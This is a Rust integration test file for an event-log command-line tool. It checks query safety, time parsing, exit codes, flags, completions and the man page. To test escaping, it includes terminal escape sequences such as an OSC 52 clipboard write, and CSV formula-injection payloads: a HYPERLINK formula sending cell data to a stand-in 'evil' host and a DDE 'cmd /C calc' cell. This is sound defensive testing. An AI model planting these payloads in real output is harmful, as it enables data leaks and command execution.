//! The command-line surface: a query never writes, time values that start
//! with `-`, the problems rule, missing files, suggestions, per-command flags,
//! terminal-safe output and CSV cells, completions, the man page.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

use crate::util::{self, stderr, stdout};

fn cmd() -> Command {
    util::cmd()
}

fn run(file: &Path, args: &[&str]) -> Output {
    cmd().arg("--file").arg(file).args(args).output().unwrap()
}

fn run_env(file: &Path, args: &[&str]) -> Output {
    cmd()
        .env("DS01_EVENTS_FILE", file)
        .args(args)
        .output()
        .unwrap()
}

/// A small log, written here, relative to now.
fn sample(dir: &Path) -> PathBuf {
    let now = jiff::Timestamp::now();
    let at = |mins: i64| {
        (now - jiff::SignedDuration::from_mins(mins))
            .strftime("%Y-%m-%dT%H:%M:%S%.6fZ")
            .to_string()
    };
    let lines = [
        format!(
            r#"{{"timestamp":"{}","event_type":"container.create","schema_version":"1","user":"alice","source":"t","details":{{"container":"alice-nb"}}}}"#,
            at(300)
        ),
        format!(
            r#"{{"timestamp":"{}","event_type":"health.check","schema_version":"1","user":null,"source":"t","details":{{"status":"fail"}}}}"#,
            at(120)
        ),
        format!(
            r#"{{"timestamp":"{}","event_type":"gpu.health_check","schema_version":"1","user":null,"source":"t","details":{{"gpu":"0","status":"reset_failed"}}}}"#,
            at(100)
        ),
        format!(
            r#"{{"timestamp":"{}","event_type":"health.check","schema_version":"1","user":null,"source":"t","details":{{"status":"ok"}}}}"#,
            at(80)
        ),
        format!(
            r#"{{"ts":"{}","event":"status_change","new_status":"failed","job":"7"}}"#,
            at(60)
        ),
        format!(
            r#"{{"ts":"{}","event":"status_change","new_status":"running","job":"8"}}"#,
            at(50)
        ),
        format!(
            r#"{{"timestamp":"{}","event_type":"auth.denied","schema_version":"1","user":"bob","source":"t","details":{{}}}}"#,
            at(30)
        ),
        format!(
            r#"{{"timestamp":"{}","event_type":"gpu.allocate","schema_version":"1","user":"alice","source":"t","details":{{"gpu":"1","result":"ok"}}}}"#,
            at(10)
        ),
    ];
    let p = dir.join("events.jsonl");
    std::fs::write(&p, lines.join("\n") + "\n").unwrap();
    p
}

// 1. Never write from a command that looks like a query.

#[test]
fn query_looking_legacy_forms_write_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path());
    let before = std::fs::read(&file).unwrap();
    for args in [
        &["auth.denied", "--user", "bob", "--since", "today"][..],
        &["gpu.allocate", "--user", "alice", "--all"],
        &["container.remove", "--all"],
        &["container.remove", "--json"],
        &["container.remove", "--user", "a", "--limit", "3"],
        &["container.remove", "--type", "gpu"],
        &["container.remove", "--where", "a=b"],
        &["container.remove", "--grep", "x"],
        &["container.remove", "--raw"],
        &["container.remove", "--problems"],
        &["container.remove", "--until", "today"],
        &["container.remove", "-n", "3"],
        &["container.remove", "alice"],
        &["--since", "today", "container.remove", "--user", "a"],
        &["--json", "auth.denied"],
    ] {
        for o in [run(&file, args), run_env(&file, args)] {
            assert_eq!(o.status.code(), Some(64), "{args:?}: {}", stderr(&o));
            let err = stderr(&o);
            assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
            assert!(err.contains("ds01-events --type"), "{err}");
            assert!(err.contains("ds01-events log"), "{err}");
            assert!(err.contains("nothing was written"), "{err}");
            assert_eq!(std::fs::read(&file).unwrap(), before, "{args:?} wrote");
        }
    }
}

#[test]
fn legitimate_legacy_forms_still_write() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("log.jsonl");
    for args in [
        &["container.create", "--user", "alice", "--message", "hi"][..],
        &[
            "container.create",
            "--user=alice",
            "--source",
            "old.sh",
            "gpu=1",
        ],
        &["gpu.allocate", "user=bob", "gpu=2"],
    ] {
        let o = run(&file, args);
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
    }
    let o = run_env(&file, &["gpu.release", "--user", "carol"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = std::fs::read_to_string(&file).unwrap();
    let v: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(v.len(), 4);
    assert_eq!(v[0]["user"], "alice");
    assert_eq!(v[0]["details"]["message"], "hi");
    assert_eq!(v[1]["source"], "old.sh");
    assert_eq!(v[1]["details"]["gpu"], 1);
    assert_eq!(v[2]["user"], "bob");
    assert_eq!(v[3]["event_type"], "gpu.release");
    assert_eq!(v[3]["user"], "carol");
}

#[test]
fn categories_still_query_with_options_on_either_side() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path());
    let a = run(&file, &["gpu", "--json"]);
    let b = run(&file, &["--json", "gpu"]);
    let c = run(&file, &["--type", "gpu", "--json"]);
    assert!(a.status.success(), "{}", stderr(&a));
    assert_eq!(stdout(&a), stdout(&c));
    assert_eq!(stdout(&b), stdout(&c));
    assert_eq!(stdout(&c).lines().count(), 2);
}

// 5. Suggestions.

#[test]
fn a_typo_suggests_the_nearest_command_first() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path());
    for (typo, want) in [
        ("sumary", "summary"),
        ("doctr", "doctor"),
        ("folow", "follow"),
    ] {
        let o = run(&file, &[typo]);
        assert_eq!(o.status.code(), Some(64));
        let err = stderr(&o);
        assert!(
            err.starts_with(&format!(
                "ds01-events: unknown command '{typo}'; did you mean '{want}'?"
            )),
            "{err}"
        );
    }
}

// 2. Time values that start with `-`; this week/month/year; zone suffixes.

#[test]
fn time_values_may_start_with_a_dash() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path());
    // The sample's events are 300, 120, 100, 80, 60, 50, 30 and 10 minutes
    // older than a moment before the command runs.
    for (args, want) in [
        (&["--since", "-90m", "--json"][..], 5),
        (&["-S", "-2h", "--json"], 6),
        (&["--since=-90m", "--json"], 5),
        (&["-S-2h", "--json"], 6),
        (&["--until", "-1h", "--json"], 5),
        (&["-U", "-1h", "-S", "-6h", "--json"], 5),
        (&["query", "--since", "-90m", "--json"], 5),
        (&["summary", "--since", "-90m", "--json"], 0),
    ] {
        let o = run(&file, args);
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
        if want > 0 {
            assert_eq!(stdout(&o).lines().count(), want, "{args:?}");
        }
    }
    let o = run(&file, &["summary", "--since", "-90m"]);
    assert!(o.status.success(), "{}", stderr(&o));
}

#[test]
fn this_week_and_zone_suffixes_are_read() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("e.jsonl");
    std::fs::write(
        &p,
        concat!(
            r#"{"timestamp":"2026-11-30T06:59:59Z","event_type":"a.b","schema_version":"1","user":"u","source":"s","details":{}}"#,
            "\n",
            r#"{"timestamp":"2026-11-30T07:00:00Z","event_type":"a.b","schema_version":"1","user":"u","source":"s","details":{}}"#,
            "\n",
        ),
    )
    .unwrap();
    for (tz, phrase) in [
        ("UTC", "2026-11-30 08:00 Europe/Berlin"),
        ("Asia/Tokyo", "2026-11-30 08:00 Europe/Berlin"),
        ("Europe/Berlin", "2026-11-30 07:00 UTC"),
        ("UTC", "2026-11-30 02:00 America/New_York"),
        ("UTC", "2026-11-30 12:30 +05:30"),
    ] {
        let o = cmd()
            .env("TZ", tz)
            .arg("--file")
            .arg(&p)
            .args(["--since", phrase, "--json"])
            .output()
            .unwrap();
        assert!(o.status.success(), "{phrase}: {}", stderr(&o));
        let out = stdout(&o);
        assert_eq!(out.lines().count(), 1, "TZ={tz} {phrase}: {out}");
        assert!(out.contains("07:00:00"), "{out}");
    }
    for phrase in [
        "this week",
        "this month",
        "this year",
        "yesterday 14:00 UTC",
    ] {
        let o = run(&p, &["--since", phrase]);
        assert!(o.status.success(), "{phrase}: {}", stderr(&o));
    }
}

// 3. --problems reads status, result and new_status too.

#[test]
fn problems_include_failed_statuses_in_details() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path());
    // A status spelled with a JSON escape is still a failure.
    let mut text = std::fs::read_to_string(&file).unwrap();
    text.push_str(r#"{"timestamp":"2026-11-30T07:00:00Z","event_type":"job.finish","schema_version":"1","user":"eve","source":"t","details":{"result":"\u0046AILED"}}"#);
    text.push('\n');
    std::fs::write(&file, text).unwrap();
    let types = |o: &Output| -> Vec<String> {
        stdout(o)
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                v["event_type"].as_str().unwrap().to_string()
            })
            .collect()
    };
    let o = run(&file, &["--problems", "--all", "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut got = types(&o);
    got.sort();
    assert_eq!(
        got,
        [
            "auth.denied",
            "gpu.health_check",
            "health.check",
            "job.finish",
            "status_change"
        ]
    );
    // Every path gives the same answer: the table, the forced slow path,
    // the legacy `errors`, and --since (which peeks envelopes).
    let slow = run(
        &file,
        &["--problems", "--all", "--json", "--where", "zz_none!=1"],
    );
    assert_eq!(stdout(&slow), stdout(&o));
    assert_eq!(
        stdout(&run(&file, &["errors", "--all", "--json"])),
        stdout(&o)
    );
    let recent = run(&file, &["--problems", "--since", "-6h", "--json"]);
    assert_eq!(types(&recent).len(), 4);
    let table = stdout(&run(&file, &["--problems", "--all"]));
    assert!(table.contains("reset_failed"), "{table}");
    assert!(!table.contains("alice-nb"), "{table}");
    let info = stdout(&run(&file, &["--info"]));
    assert!(info.contains("new_status"), "--info lacks the status rule");
}

// 4. A missing directory or a directory as --file.

#[test]
fn missing_directory_and_directory_as_file_exit_66() {
    let dir = tempfile::tempdir().unwrap();
    let missing_dir = dir.path().join("no-such-dir");
    let missing = missing_dir.join("events.jsonl");
    for args in [
        &[][..],
        &["--json"],
        &["--user", "alice", "--all"],
        &["summary"],
        &["types", "--used"],
        &["gpu"],
        &["errors"],
    ] {
        for o in [run(&missing, args), run_env(&missing, args)] {
            assert_eq!(o.status.code(), Some(66), "{args:?}: {}", stderr(&o));
            let err = stderr(&o);
            assert_eq!(err.lines().count(), 1, "{err}");
            assert!(
                err.contains(&format!(
                    "the directory {} does not exist",
                    missing_dir.display()
                )),
                "{args:?}: {err}"
            );
            assert!(!err.contains("no events recorded yet"), "{err}");
        }
    }
    let d = dir.path().to_path_buf();
    for args in [
        &[][..],
        &["--since", "today"],
        &["summary"],
        &["types", "--used"],
        &["follow", "-n", "1"],
        &["metrics"],
    ] {
        let o = run(&d, args);
        assert_eq!(o.status.code(), Some(66), "{args:?}: {}", stderr(&o));
        let err = stderr(&o);
        assert!(
            err.contains(&format!("{} is a directory", d.display())),
            "{args:?}: {err}"
        );
        assert!(!err.contains("gzip"), "{err}");
    }
    // A missing file in an existing directory is still "no events yet".
    let o = run(&dir.path().join("events.jsonl"), &[]);
    assert_eq!(o.status.code(), Some(0));
    assert!(stderr(&o).contains("no events recorded yet"));
}

// 6. Each command takes only the options it honours.

#[test]
fn commands_refuse_options_they_do_not_honour() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path());
    for (args, flag) in [
        (&["summary", "-o", "csv"][..], "-o"),
        (&["summary", "-n", "3"], "-n"),
        (&["summary", "--raw"], "--raw"),
        (&["summary", "--reverse"], "--reverse"),
        (&["summary", "--all"], "--all"),
        (&["-n", "3", "summary"], "--limit"),
        (&["--raw", "summary"], "--raw"),
        (&["--summary", "-o", "csv"], "--output"),
        (&["--guided", "--user", "x"], "--user"),
        (&["types", "--utc"], "--utc"),
        (&["types", "--user", "alice"], "--user"),
        (&["metrics", "--json"], "--json"),
        (&["--json", "metrics"], "--json"),
        (&["--utc", "doctor"], "--utc"),
        (&["log", "--json", "a.b"], "--json"),
        (&["log", "--color", "never", "a.b"], "--color"),
        (&["--since", "today", "log", "a.b"], "--since"),
        (&["--info", "summary"], "--info"),
        (&["follow", "--reverse"], "--reverse"),
        (&["--follow", "-r"], "--reverse"),
    ] {
        let o = run(&file, args);
        assert_eq!(o.status.code(), Some(64), "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).contains(flag), "{args:?}: {}", stderr(&o));
        assert!(o.stdout.is_empty(), "{args:?}");
    }
    // What they honour still works, before or after the command.
    for args in [
        &[
            "summary", "--json", "--utc", "--since", "-6h", "--by", "gpu",
        ][..],
        &["--json", "summary"],
        &["--user", "alice", "summary", "--color", "never"],
        &["types", "--used", "--json", "--user", "alice"],
        &["--json", "types"],
        &["query", "--utc", "-n", "2"],
        &["help", "time"],
    ] {
        let o = run(&file, args);
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
    }
    // Help lists only what applies, and says what summary --json is.
    let help = stdout(&run(&file, &["summary", "--help"]));
    for absent in ["--limit", "--raw", "--reverse", "--output", "--all "] {
        assert!(!help.contains(absent), "summary --help lists {absent}");
    }
    assert!(help.contains("one JSON document"), "{help}");
    let help = stdout(&run(&file, &["log", "--help"]));
    for absent in ["--json", "--utc", "--color", "--since"] {
        assert!(!help.contains(absent), "log --help lists {absent}");
    }
    let help = stdout(&run(&file, &["types", "--help"]));
    for absent in ["--utc", "--color", "--limit"] {
        assert!(!help.contains(absent), "types --help lists {absent}");
    }
}

// 7. One unsafe-character set for every output.

/// The characters no output may carry raw (the set of escape.rs, written out
/// here independently).
fn unsafe_char(c: char) -> bool {
    let u = c as u32;
    (u < 0x20 && c != '\n')
        || (0x7f..=0x9f).contains(&u)
        || [0xad, 0x61c, 0x180e, 0x3164, 0xfeff, 0x2028, 0x2029].contains(&u)
        || (0x200b..=0x200f).contains(&u)
        || (0x202a..=0x202e).contains(&u)
        || (0x2060..=0x2064).contains(&u)
        || (0x2066..=0x2069).contains(&u)
        || (0xfff9..=0xfffb).contains(&u)
        || (0xe0000..=0xe007f).contains(&u)
}

#[test]
fn no_output_carries_unsafe_characters() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("evil.jsonl");
    let now = jiff::Timestamp::now()
        .strftime("%Y-%m-%dT%H:%M:%S%.6fZ")
        .to_string();
    let evil = [
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{9b}31m",
        "\u{85}",
        "a\u{202e}b",
        "z\u{200b}w",
        "alm\u{61c}",
        "shy\u{ad}",
        "mvs\u{180e}",
        "fill\u{3164}",
        "ann\u{fff9}\u{fffa}\u{fffb}",
        "tag\u{e0041}",
        "iso\u{2066}x\u{2069}",
        "del\u{7f}",
    ];
    let mut text = String::new();
    for (i, e) in evil.iter().enumerate() {
        // Written raw (as a hostile writer would), not as \u escapes.
        let v = serde_json::json!({
            "timestamp": now,
            "event_type": format!("evil.t{i}{e}"),
            "schema_version": "1",
            "user": format!("u{e}"),
            "source": "s",
            "details": {"container": format!("c{e}"), "k": format!("v{e}"), "status": "fail"},
        });
        text.push_str(&v.to_string());
        text.push('\n');
    }
    std::fs::write(&file, &text).unwrap();
    assert!(text.chars().any(|c| c == '\u{202e}'), "the fixture is raw");
    for args in [
        &[][..],
        &["--all", "--color", "always"],
        &["--json", "--all"],
        &["-o", "csv", "--all"],
        &["--problems", "--all"],
        &["summary"],
        &["summary", "--json", "--by", "k"],
        &["summary", "--by", "k", "--color", "always"],
        &["types", "--used"],
        &["types", "--used", "--json"],
        &["metrics"],
    ] {
        let o = run(&file, args);
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
        let out = String::from_utf8(o.stdout.clone()).unwrap();
        assert!(!out.is_empty(), "{args:?}");
        // --color always adds SGR sequences of its own: take them out.
        let out = regex_lite_strip_sgr(&out);
        let bad: Vec<String> = out
            .chars()
            .filter(|c| unsafe_char(*c))
            .map(|c| format!("U+{:04X}", c as u32))
            .collect();
        assert!(bad.is_empty(), "{args:?} printed {bad:?}:\n{out}");
        let err = stderr(&o);
        assert!(!err.chars().any(unsafe_char), "{args:?} stderr: {err:?}");
        if args.contains(&"--json") {
            for line in out
                .lines()
                .filter(|l| l.starts_with('{') && l.ends_with('}'))
            {
                serde_json::from_str::<Value>(line).unwrap();
            }
            if args[0] == "summary" {
                let v: Value = serde_json::from_str(&out).unwrap();
                assert!(
                    v.to_string().contains('\u{202e}'),
                    "summary --json lost data"
                );
            }
        }
    }
}

/// Removes the SGR colour sequences (`ESC [ digits ; ... m`) the tool adds.
fn regex_lite_strip_sgr(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' && chars.peek() == Some(&'[') {
            let mut seq = String::new();
            chars.next();
            while let Some(&d) = chars.peek() {
                chars.next();
                if d == 'm' {
                    break;
                }
                seq.push(d);
            }
            if seq.chars().all(|d| d.is_ascii_digit() || d == ';') {
                continue;
            }
            out.push_str("\u{1b}[");
            out.push_str(&seq);
            continue;
        }
        out.push(c);
    }
    out
}

// 8. CSV formula injection.

/// Parses CSV with python3's csv module: the rows as JSON.
fn python_csv(text: &str) -> Vec<Vec<String>> {
    use std::io::Write;
    let mut child = Command::new("python3")
        .args([
            "-c",
            "import csv, json, sys; print(json.dumps(list(csv.reader(sys.stdin))))",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3 runs");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn csv_cells_never_start_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("f.jsonl");
    let now = jiff::Timestamp::now()
        .strftime("%Y-%m-%dT%H:%M:%S%.6fZ")
        .to_string();
    let cells = [
        "=HYPERLINK(\"http://evil/\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\tlead",
        "\rlead",
        "-5",
        "plain",
    ];
    let mut text = String::new();
    for (i, c) in cells.iter().enumerate() {
        let v = serde_json::json!({
            "timestamp": now, "event_type": "x.y", "schema_version": "1",
            "user": c, "source": "s", "details": {"container": format!("c{i}"), "k": c},
        });
        text.push_str(&v.to_string());
        text.push('\n');
    }
    std::fs::write(&file, text).unwrap();
    let neutral = |c: &str| -> String {
        let shown = c.replace('\t', "\\t").replace('\r', "\\r");
        if c == "-5" || c == "plain" {
            shown
        } else {
            format!("'{shown}")
        }
    };
    for o in [
        run(&file, &["-o", "csv", "--all"]),
        run(&file, &["--output=csv", "--all"]),
    ] {
        assert!(o.status.success(), "{}", stderr(&o));
        let rows = python_csv(&stdout(&o));
        assert_eq!(rows.len(), cells.len() + 1);
        let user = rows[0].iter().position(|h| h == "user").unwrap();
        let k = rows[0].iter().position(|h| h == "k").unwrap();
        for (row, c) in rows[1..].iter().zip(cells) {
            assert_eq!(row[user], neutral(c), "{c:?}");
            assert_eq!(row[k], neutral(c), "{c:?}");
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '@', '\t', '\r'])
                        && (!cell.starts_with('-') || cell == "-5"),
                    "{cell:?}"
                );
            }
        }
    }
    // The bare values stay available (control characters still escaped).
    let o = run(&file, &["-o", "csv-bare", "--all"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let rows = python_csv(&stdout(&o));
    let user = rows[0].iter().position(|h| h == "user").unwrap();
    for (row, c) in rows[1..].iter().zip(cells) {
        assert_eq!(row[user], c.replace('\t', "\\t").replace('\r', "\\r"));
    }
    let info = stdout(&run(&file, &["--info"]));
    assert!(
        info.contains("csv-bare"),
        "--info does not document csv-bare"
    );
}

// 9. Completion.

/// What bash completes for `words` (the last word being completed), run in
/// `cwd` so that file names would show up if offered.
fn complete_in(cwd: &Path, words: &str) -> Vec<String> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let script = format!(
        r#"source {comp}
read -ra COMP_WORDS <<< "$WORDS"
[[ "$WORDS" == *" " ]] && COMP_WORDS+=("")
COMP_CWORD=$(( ${{#COMP_WORDS[@]}} - 1 ))
COMP_LINE="$WORDS"
COMP_POINT=${{#COMP_LINE}}
fn=$(complete -p ds01-events | sed 's/.*-F \([^ ]*\).*/\1/')
"$fn" ds01-events "${{COMP_WORDS[$COMP_CWORD]}}" "${{COMP_WORDS[$COMP_CWORD-1]}}"
printf '%s\n' "${{COMPREPLY[@]}}""#,
        comp = root.join("completions/ds01-events.bash").display()
    );
    let out = util::scrubbed("bash")
        .arg("-c")
        .arg(script)
        .current_dir(cwd)
        .env("WORDS", words)
        .output()
        .expect("bash runs");
    assert!(out.status.success(), "{}", stderr(&out));
    stdout(&out)
        .lines()
        .filter(|l| !l.is_empty())
        .map(str::to_string)
        .collect()
}

#[test]
fn completion_offers_values_not_file_names() {
    let dir = tempfile::tempdir().unwrap();
    for f in ["alice-notes.txt", "gpu-file", "today.log", "2026-file"] {
        std::fs::write(dir.path().join(f), "").unwrap();
    }
    let d = dir.path();
    for words in [
        "ds01-events --user ",
        "ds01-events --user a",
        "ds01-events -u a",
        "ds01-events --container ",
        "ds01-events --since ",
        "ds01-events --since t",
        "ds01-events --until 2",
        "ds01-events summary --since ",
        "ds01-events follow --user a",
        "ds01-events --where ",
        "ds01-events --grep ",
        "ds01-events -n ",
    ] {
        let got = complete_in(d, words);
        assert!(
            !got.iter()
                .any(|w| w.contains("-file") || w.contains(".txt") || w.contains(".log")),
            "{words:?} offered file names: {got:?}"
        );
    }
    let types = complete_in(d, "ds01-events --type gpu.a");
    assert!(types.contains(&"gpu.allocate".to_string()), "{types:?}");
    assert!(!types.iter().any(|w| w.contains("-file")), "{types:?}");
    let types = complete_in(d, "ds01-events query -t ma");
    assert!(types.contains(&"maintenance".to_string()), "{types:?}");
    let types = complete_in(d, "ds01-events log container.cr");
    assert!(types.contains(&"container.create".to_string()), "{types:?}");
    let topics = complete_in(d, "ds01-events help ");
    for t in ["filters", "time", "exit-codes"] {
        assert!(topics.contains(&t.to_string()), "{topics:?}");
    }
    let subs = complete_in(d, "ds01-events ");
    assert!(subs.contains(&"summary".to_string()), "{subs:?}");
    assert!(!subs.contains(&"generate".to_string()), "{subs:?}");
    assert!(complete_in(d, "ds01-events gen").is_empty());
    // --file still completes files.
    let files = complete_in(d, "ds01-events --file gpu");
    assert!(files.contains(&"gpu-file".to_string()), "{files:?}");
    // zsh and fish: no generate either, and the types are listed.
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    for f in ["completions/_ds01-events", "completions/ds01-events.fish"] {
        let text = std::fs::read_to_string(root.join(f)).unwrap();
        assert!(!text.contains("generate"), "{f} offers generate");
        assert!(text.contains("gpu.allocate"), "{f} lacks the types");
    }
}

// 10. --concepts shows whole lines; the man page fits 80 columns.

#[test]
fn concepts_show_a_complete_v1_line_and_an_old_one() {
    let dir = tempfile::tempdir().unwrap();
    let text = stdout(&run(&dir.path().join("e.jsonl"), &["--concepts"]));
    let objects: Vec<Value> = text
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).expect("a whole JSON line"))
        .collect();
    let v1 = objects
        .iter()
        .find(|v| v.get("schema_version").is_some())
        .expect("a v1 line");
    let keys: Vec<&str> = v1.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        [
            "timestamp",
            "event_type",
            "schema_version",
            "user",
            "source",
            "uid",
            "details"
        ]
    );
    let old = objects
        .iter()
        .find(|v| v.get("ts").is_some())
        .expect("an old-schema line");
    assert!(old.get("event").is_some() && old.get("details").is_none());
    // Both read back as events.
    let f = dir.path().join("two.jsonl");
    let lines: Vec<String> = objects.iter().map(|v| v.to_string()).collect();
    std::fs::write(&f, lines.join("\n") + "\n").unwrap();
    let o = run(&f, &["--all", "--json"]);
    assert_eq!(stdout(&o).lines().count(), 2, "{}", stderr(&o));
}

#[test]
#[ignore = "needs man (man-db)"]
fn man_page_fits_80_columns_and_holds_the_concepts() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = Command::new("man")
        .arg("-l")
        .arg(root.join("man/ds01-events.1"))
        .env("MANWIDTH", "80")
        .env("MANPAGER", "cat")
        .env("PAGER", "cat")
        .env("LANG", "C.UTF-8")
        .output()
        .expect("man runs");
    assert!(out.status.success(), "{}", stderr(&out));
    let page = stdout(&out);
    let long: Vec<&str> = page.lines().filter(|l| l.chars().count() > 80).collect();
    assert!(long.is_empty(), "lines over 80 columns: {long:#?}");
    // Table rows keep their columns (not reflowed into one paragraph).
    for row in [
        "  -u, --user NAME         events of this user (exact)",
        "  today, yesterday, tomorrow           00:00 of that day",
        "  66  events file or archive unreadable",
        "  ds01-events errors              = --problems",
        "  DS01_EVENTS_STRICT   1: log exits 75 when the event is not appended",
    ] {
        assert!(
            page.lines().any(|l| l.trim_end().ends_with(row)),
            "row not intact: {row:?}"
        );
    }
    // A description that goes on is under its column, never at the margin
    // (the old page broke rows: "tainer, details.name" at column 7).
    assert!(page.lines().any(|l| l
        == format!(
            "{}details.container, details.name (detection",
            " ".repeat(33)
        )));
    // The --concepts text is there, word for word.
    let words = |s: &str| -> Vec<String> {
        s.split_whitespace()
            .map(|w| w.replace('\u{2010}', "-"))
            .collect()
    };
    let flat = words(&page).join(" ");
    let concepts = stdout(&cmd().arg("--concepts").output().unwrap());
    for para in concepts.split("\n\n").filter(|p| !p.starts_with('{')) {
        let want = words(para).join(" ");
        assert!(flat.contains(&want), "man page lacks: {want}");
    }
    assert!(flat.contains("\"schema_version\":\"1\",\"user\":\"alice\","));
}
